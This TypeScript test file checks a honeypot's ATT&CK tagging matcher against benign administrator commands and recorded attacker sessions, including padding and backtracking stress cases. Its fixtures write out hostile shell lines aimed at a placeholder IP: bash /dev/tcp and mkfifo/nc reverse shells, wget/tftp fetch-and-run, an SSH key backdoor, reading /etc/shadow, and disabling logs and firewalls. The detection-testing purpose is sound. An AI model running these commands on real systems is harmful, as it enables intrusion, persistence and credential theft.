import assert from 'node:assert/strict'
import {basename} from 'node:path'
import {before, describe, it} from 'node:test'

import type {NewTtpTag} from '../../src/db/schema.js'
import {Matcher, MAX_EVIDENCE_LENGTH, MAX_TEXT_LENGTH} from '../../src/ttp/matcher.js'
import {loadRules, loadTechniqueIndex} from '../../src/ttp/rule-loader.js'
import type {CompiledRule} from '../../src/ttp/rule-schema.js'

// What administrators type all day: none of it is an attack technique.
const BENIGN = [
  'cd /var/www', 'echo hello world', 'git status', 'git commit -m "fix concatenate and video ids"', 'npm install', 'make -j4',
  'vim /etc/nginx/nginx.conf', 'nano README.md', 'sudo apt update', 'sudo apt-get install -y nginx', 'sudo systemctl restart nginx',
  'systemctl status sshd', 'journalctl -u nginx --since today', 'tail -f /var/log/syslog', 'less /var/log/nginx/access.log',
  'grep -n TODO src/app.js', 'mkdir -p build/out', 'cp config.example.yml config.yml', 'mv old.txt new.txt', 'tar xzf release.tar.gz',
  'docker compose up -d', 'cat README.md', 'cat concatenate.txt', 'echo https://example.com/ps', 'export EDITOR=vim', 'clear', 'exit',
  'date', 'man crontab', 'crontab -l', 'history | tail -n 20', 'touch notes.txt', 'echo $PATH', 'cat video_ids.csv | sort | uniq',
  'head -n 5 access.log', 'diff a.txt b.txt', 'chown -R www-data:www-data /var/www/html', 'ssh-keygen -t ed25519',
  'cat ~/.ssh/id_ed25519.pub', `awk '{print $1}' access.log | sort | uniq -c | sort -rn | head`, 'sed -i "s/foo/bar/" config.yml',
  'openssl x509 -in cert.pem -noout -text', 'kubectl get pods', 'systemctl reload nginx', 'apt list --upgradable', 'curl --version',
  'wget --help', 'cat /etc/nginx/sites-available/default', 'echo "set -o vi" >> ~/.inputrc', 'cat https.conf', 'vim passwd_policy.md',
  'echo free', 'cat shadow-tls.json', 'pip install requests', 'cd ~', 'logout', 'echo idle', 'echo $SHELL', 'npm run build',
  'git pull origin main', 'chmod 644 index.html', 'sort -u names.txt > unique.txt', 'wc -l access.log', 'echo "ps is a command"',
  'cat /etc/hostname', 'vim ~/.bashrc', 'source ~/.bashrc', 'export PATH=$PATH:/usr/local/go/bin', 'go build ./...', 'cargo test',
  'mysql -u root -p', 'psql -U postgres', 'redis-cli ping', 'echo "idempotent"', 'cat identity.txt', 'cat whoami.txt', 'sleep 5',
  'screen -r', 'tmux attach', 'echo "uname -a" > notes.txt', 'git log --author=whoami', 'dirname /tmp/x', 'ls-files',
]

// Whole honeypot sessions and the (sub-)techniques they must yield, no more and no fewer.
const SESSIONS: ReadonlyArray<readonly [string, readonly string[]]> = [
  ['cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1 mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
    ['T1070.004', 'T1098.004']],
  ['cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh',
    ['T1059.004', 'T1070.004', 'T1105', 'T1222.002']],
  ["cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'", ['T1082']],
  ['echo "root:TR7v5UuFuzWi"|chpasswd|bash', ['T1059.004', 'T1098']],
  ['uname -a; w; whoami; cat /etc/passwd; cat /etc/shadow', ['T1003.008', 'T1033', 'T1082', 'T1087.001']],
  ['ps aux | grep -v grep | grep xmrig; pkill -9 -f kinsing', ['T1057']],
  ['export HISTFILE=/dev/null; unset HISTFILE; history -c', ['T1070.003', 'T1562.003']],
  ['setenforce 0; systemctl stop firewalld; ufw disable; iptables -F', ['T1562.001', 'T1562.004']],
  ['systemctl stop rsyslog; auditctl -e 0; service auditd stop', ['T1562.006', 'T1562.012']],
  ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', ['T1059.004', 'T1095']],
  ['crontab -l', []],
  ['enable', []],
  ['/bin/busybox echo -e \'\\x41\\x4b\\x34\\x37\'', []],
]

describe('the shipped rule pack', () => {
  let rules: readonly CompiledRule[] = []
  let matcher: Matcher
  before(async () => {
    const loaded = await loadRules()
    assert.deepEqual(loaded.problems, [], 'the shipped pack loads without problems')
    rules = loaded.rules
    matcher = new Matcher(rules)
  })

  const partCount = (): number => rules.filter((rule) => rule.field === 'command').reduce((sum, rule) => sum + rule.parts.length, 0)
  const techniques = (text: string): string[] => [...new Set(tagsFor(matcher, text).map((tag) => tag.sub_technique_id ?? tag.technique_id))].sort()

  it('has broad coverage, one file per tactic area, and unique ids', () => {
    assert.ok(rules.length >= 40, `only ${rules.length} rules`)
    assert.equal(new Set(rules.map((rule) => rule.id)).size, rules.length)
    for (const rule of rules) assert.equal(basename(rule.path, '.json'), rule.id.split('.')[0], `${rule.id} is in ${rule.path}`)
    const covered = new Set(rules.flatMap((rule) => rule.emits.map((emit) => emit.subTechnique ?? emit.technique)))
    for (const technique of ['T1082', 'T1087.001', 'T1083', 'T1016', 'T1049', 'T1057', 'T1018', 'T1033', 'T1105', 'T1059.004', 'T1059.006',
      'T1053.003', 'T1136.001', 'T1098.004', 'T1070.003', 'T1070.004', 'T1548.003', 'T1548.001', 'T1003.008', 'T1496', 'T1562.001',
      'T1505.003', 'T1095', 'T1140', 'T1027']) {
      assert.ok(covered.has(technique), `no rule emits ${technique}`)
    }
  })

  it('uses each technique, current in the shipped ATT&CK catalog, under one of its own tactics', async () => {
    const index = await loadTechniqueIndex()
    for (const rule of rules) {
      for (const emit of rule.emits) {
        const technique = index.technique(emit.subTechnique ?? emit.technique)
        assert.ok(technique, `${rule.id}: ATT&CK ${index.version} does not know ${emit.subTechnique ?? emit.technique}`)
        assert.ok(!technique.revoked && !technique.deprecated, `${rule.id}: ${emit.subTechnique ?? emit.technique} is revoked or deprecated`)
        assert.ok(technique.tactics.includes(emit.tactic), `${rule.id}: ${emit.subTechnique ?? emit.technique} is not a ${emit.tactic} technique`)
      }
    }
  })

  it('matches every example and none of the near-misses, with at least two of each per rule', () => {
    for (const rule of rules) {
      assert.ok(rule.examples.match.length >= 2, `${rule.id}: fewer than two examples`)
      assert.ok(rule.examples.noMatch.length >= 2, `${rule.id}: fewer than two near-misses`)
      for (const text of rule.examples.match) {
        assert.ok(matcher.hits(rule.field, text).some((hit) => hit.rule === rule), `${rule.id} should match ${JSON.stringify(text)}`)
      }

      for (const text of rule.examples.noMatch) {
        assert.ok(!matcher.hits(rule.field, text).some((hit) => hit.rule === rule), `${rule.id} should not match ${JSON.stringify(text)}`)
      }
    }
  })

  it('tags no benign administrator command', () => {
    for (const text of BENIGN) {
      assert.deepEqual(tagsFor(matcher, text).map((tag) => `${tag.rule_id} [${tag.evidence}]`), [], JSON.stringify(text))
    }
  })

  it('yields exactly the expected techniques for whole attacker sessions', () => {
    for (const [text, expected] of SESSIONS) assert.deepEqual(techniques(text), expected, JSON.stringify(text))
  })

  it('gives evidence: the simple command the match is in, without the separator', () => {
    const tags = tagsFor(matcher, 'cd /tmp; cat /proc/cpuinfo | grep name; wget http://203.0.113.7/x.sh')
    const evidence = Object.fromEntries(tags.map((tag) => [tag.technique_id, tag.evidence]))
    assert.equal(evidence.T1082, 'cat /proc/cpuinfo')
    assert.equal(evidence.T1105, 'wget http://203.0.113.7/x.sh')
  })

  it('cuts long evidence between characters, never inside an emoji', () => {
    for (let pad = 0; pad < 4; pad++) {
      const text = `wget http://203.0.113.7/${'a'.repeat(MAX_EVIDENCE_LENGTH - 27 + pad)}${'😀'.repeat(8)}`
      const [tag] = tagsFor(matcher, text).filter((t) => t.technique_id === 'T1105')
      assert.ok(tag, `pad ${pad}: no T1105 tag`)
      assert.ok(tag.evidence.endsWith('…'), tag.evidence)
      assert.ok(tag.evidence.length <= MAX_EVIDENCE_LENGTH + 1)
      assert.ok(!/[\ud800-\udbff]…$/.test(tag.evidence), `pad ${pad}: ${JSON.stringify(tag.evidence.slice(-3))}`)
    }
  })

  it('never lets the literal prefilter hide a match the rule\'s regular expression finds', () => {
    const texts = [...rules.flatMap((rule) => [...rule.examples.match, ...rule.examples.noMatch]), ...BENIGN, ...SESSIONS.map(([text]) => text)]
    const variants = texts.flatMap((text) => [text, text.toUpperCase(), `x;${text}`, `${text} | sh`, text.replaceAll(' ', '\t')])
    for (const field of new Set(rules.map((rule) => rule.field))) {
      for (const text of variants) {
        const hits = new Set(matcher.hits(field, text).map((hit) => hit.rule.id))
        for (const rule of rules.filter((candidate) => candidate.field === field)) {
          assert.equal(hits.has(rule.id), rule.regex.test(text), `${rule.id} on ${JSON.stringify(text)}`)
        }
      }
    }
  })

  describe('padding cannot hide a payload', () => {
    const BARE = 'wget http://203.0.113.9/x.sh; sh x.sh; cat /etc/shadow; crontab -l; history -c'
    const PADDED: Readonly<Record<string, string>> = {
      'a 4,100-character no-op in front': `: ${'A'.repeat(4100)}; ${BARE}`,
      'true; a thousand times in front': `${'true;'.repeat(1000)}${BARE}`,
    }

    it('the bare payload gets its four techniques', () => {
      assert.deepEqual(techniques(BARE), ['T1003.008', 'T1059.004', 'T1070.003', 'T1105'])
    })

    for (const [name, text] of Object.entries(PADDED)) {
      it(`${name}: exactly the bare payload's techniques, from the same rules`, () => {
        const bare = tagsFor(matcher, BARE)
        const padded = tagsFor(matcher, text)
        assert.ok(text.length > MAX_TEXT_LENGTH)
        assert.deepEqual(techniques(text), techniques(BARE))
        assert.deepEqual(padded.map((tag) => [tag.rule_id, tag.technique_id, tag.sub_technique_id]), bare.map((tag) => [tag.rule_id, tag.technique_id, tag.sub_technique_id]))
      })
    }

    it('evidence records a cut: how much of the command the rules saw', () => {
      const text = PADDED['a 4,100-character no-op in front']
      const seen = text.length - (4102 - MAX_TEXT_LENGTH)
      const note = ` [cut: rules saw ${seen.toLocaleString('en-US')} of ${text.length.toLocaleString('en-US')} characters]`
      const evidence = Object.fromEntries(tagsFor(matcher, text).map((tag) => [tag.technique_id, tag.evidence]))
      assert.equal(evidence.T1105, `wget http://203.0.113.9/x.sh${note}`)
      assert.equal(evidence.T1003, `cat /etc/shadow${note}`)
      const match = matcher.match('command', text)
      assert.equal(match.unexamined, 6)
      assert.equal(match.examined + match.unexamined, text.length - 2, 'all but the two characters of `; ` between the windows')
    })

    it('records no cut when nothing was cut (short commands packed into windows)', () => {
      const text = PADDED['true; a thousand times in front']
      for (const tag of tagsFor(matcher, text)) assert.doesNotMatch(tag.evidence, /cut/)
      assert.equal(matcher.match('command', text).unexamined, 0)
    })

    it('keeps evidence with a cut note within its bound', () => {
      const text = `: ${'A'.repeat(5000)}; wget http://203.0.113.7/${'a'.repeat(400)}`
      const [tag] = tagsFor(matcher, text).filter((t) => t.technique_id === 'T1105')
      assert.ok(tag, 'no T1105 tag')
      assert.match(tag.evidence, /^wget http:\/\/203\.0\.113\.7\/a+… \[cut: rules saw [\d,]+ of [\d,]+ characters\]$/)
      assert.ok(tag.evidence.length <= MAX_EVIDENCE_LENGTH + 1)
    })

    it('still sees a rule spanning a pipeline that a long line would have split', () => {
      const shell = 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'
      for (let pad = 4000; pad < 4100; pad += 7) {
        assert.deepEqual(techniques(`: ${'A'.repeat(pad)};${shell}`), techniques(shell), `pad ${pad}`)
      }
    })

    it('bounds the rules\' work on hostile splitting inputs by counting windows and regular expressions run', () => {
      const mb = 1024 * 1024
      const hostile: Readonly<Record<string, string>> = {
        'quotes holding ;': `echo '${'a;'.repeat(mb / 4)}'; ${BARE}`,
        'a precise pad before a mkfifo shell': `: ${'A'.repeat(4010)}; ${'a;'.repeat(30)}rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f`,
        'unbalanced $(': `${'$('.repeat(mb / 2)}${BARE}`,
        'deeply nested $(': `${'$( '.repeat(mb / 6)}${BARE}${')'.repeat(mb / 6)}`,
        'deeply nested $(echo, a 64 KiB line': `${'$(echo '.repeat(9000)}${BARE}${')'.repeat(9000)}`,
        'a megabyte of ;': `${';'.repeat(mb)}${BARE}`,
        'backslash-escaped separators': `${'\\;'.repeat(mb / 2)}; ${BARE}`,
        'a megabyte of short commands': `${'id;'.repeat(mb / 3)}${BARE}`,
      }
      for (const [name, text] of Object.entries(hostile)) {
        const match = matcher.match('command', text)
        assert.ok(match.examined <= 6 * text.length, name)
        assert.ok(match.windows <= (5 * text.length) / MAX_TEXT_LENGTH + 2, `${name}: ${match.windows} windows`)
        assert.ok(match.regexRuns <= partCount() * match.windows, name)
      }

      // what is still visible is still seen: the payload after a megabyte of separators or short commands
      assert.deepEqual(techniques(hostile['a megabyte of ;']), techniques(BARE))
      assert.deepEqual(techniques(hostile['unbalanced $(']), techniques(BARE))
      assert.deepEqual(techniques(hostile['deeply nested $(']), techniques(BARE))
      assert.deepEqual(techniques(hostile['a megabyte of short commands']).filter((t) => t !== 'T1033'), techniques(BARE))
    })
  })

  it('gets through hostile command text quickly (no catastrophic backtracking)', {timeout: 60_000}, () => {
    const units = ['a', ' ', ';', '/', '.', 'a.', '\\x41', '<?', '>', 'ls ', '$(', '-', 'a@', '1.', 'rm -r ', 'wget ', 'python ', 'perl ',
      'ssh ', 'sudo ', 'grep -r ', 'echo ', 'mkfifo ', 'nc ', 'HISTFILE=', 'Aa1+', 'xmrig ', ' -o pool', '/etc/passwd ', 'cat ', 'base64 ',
      '"', "'", '|', 'chmod ', 'find ', 'socket ', '<?php eval(', 'config set dir ', 'into outfile \'', '4A']
    let state = 42
    const rand = (n: number): number => ((state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) % n)
    const texts = units.flatMap((unit) => ['', '!', '\n'].map((end) => unit.repeat(Math.ceil(8192 / unit.length)) + end))
    for (let i = 0; i < 300; i++) {
      let text = ''
      while (text.length < 6000) text += units[rand(units.length)].repeat(1 + rand(40))
      texts.push(text)
    }

    // The timeout is what catches backtracking; these make what "gets through" means explicit: every text is
    // matched within the matcher's work bounds (characters examined, windows, regular expressions run) and
    // yields only tags of shipped rules with bounded evidence.
    assert.equal(texts.length, units.length * 3 + 300)
    for (const [i, text] of texts.entries()) {
      const match = matcher.match('command', text)
      assert.ok(match.examined <= 6 * text.length, `text ${i}: examined ${match.examined} of ${text.length}`)
      assert.ok(match.windows <= (5 * text.length) / MAX_TEXT_LENGTH + 2, `text ${i}: ${match.windows} windows`)
      assert.ok(match.regexRuns <= partCount() * match.windows, `text ${i}: ${match.regexRuns} regular expressions over ${match.windows} windows`)
      for (const tag of tagsFor(matcher, text)) {
        assert.ok(rules.some((rule) => rule.id === tag.rule_id), `text ${i}: unknown rule ${tag.rule_id}`)
        assert.ok(tag.evidence.length <= MAX_EVIDENCE_LENGTH + 1, `text ${i}: ${tag.rule_id} evidence of ${tag.evidence.length}`)
      }
    }
  })
})

function tagsFor(matcher: Matcher, command: string): NewTtpTag[] {
  return matcher.tags({attacker_ip: '203.0.113.7', id: 1, timestamp: '2026-11-26T13:32:51.123Z'}, {command})
}
